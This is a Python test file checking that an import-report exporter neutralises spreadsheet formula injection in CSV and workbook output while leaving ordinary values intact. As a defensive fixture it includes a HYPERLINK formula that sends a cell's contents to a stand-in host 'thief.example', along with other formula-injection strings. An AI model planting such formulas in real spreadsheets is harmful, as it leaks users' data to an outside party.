"""A file with results opens in a spreadsheet without computing anything, and comes back."""

import csv
import io

import pytest
from builders_import import GTIN, IDENTITY, a_table, rows_of

from passport.domain.batch_import import RowOutcome, RowResult
from passport.domain.errors import Problem
from passport.exchange.import_reports import report_text, report_workbook
from passport.exchange.text_tables import read_text_table

HOSTILE = '=HYPERLINK("https://thief.example/?"&A1)'


def a_report(write, serial):
    problem = Problem(message=f"{serial} is no serial number", row=1)
    table = a_table(IDENTITY, (GTIN, serial, "2027-02-18"))
    return write(table, {1: RowResult(number=1, outcome=RowOutcome.REFUSED, problems=(problem,))})


@pytest.mark.parametrize("serial", [HOSTILE, "+1+cmd", "-A7", "@SUM(A1)", "\t=1+1"])
def test_no_cell_of_a_text_file_begins_like_a_formula(serial):
    written = a_report(report_text, serial)

    (_, row) = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
    assert [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))] == []
    (read,) = read_text_table(written).read_rows()
    assert read.cells[3] == serial


@pytest.mark.parametrize("text", ["-20.5", "+5", "'s-Hertogenbosch", "'", ""])
def test_numbers_and_names_stay_as_they_are(text):
    written = a_report(report_text, text)

    (read,) = read_text_table(written).read_rows()
    assert read.cells[3] == text
    assert f",{text}," in written.decode("utf-8-sig")


def test_no_cell_of_a_workbook_is_a_formula():
    (_, row) = rows_of(a_report(report_workbook, HOSTILE))

    assert row[3] == HOSTILE
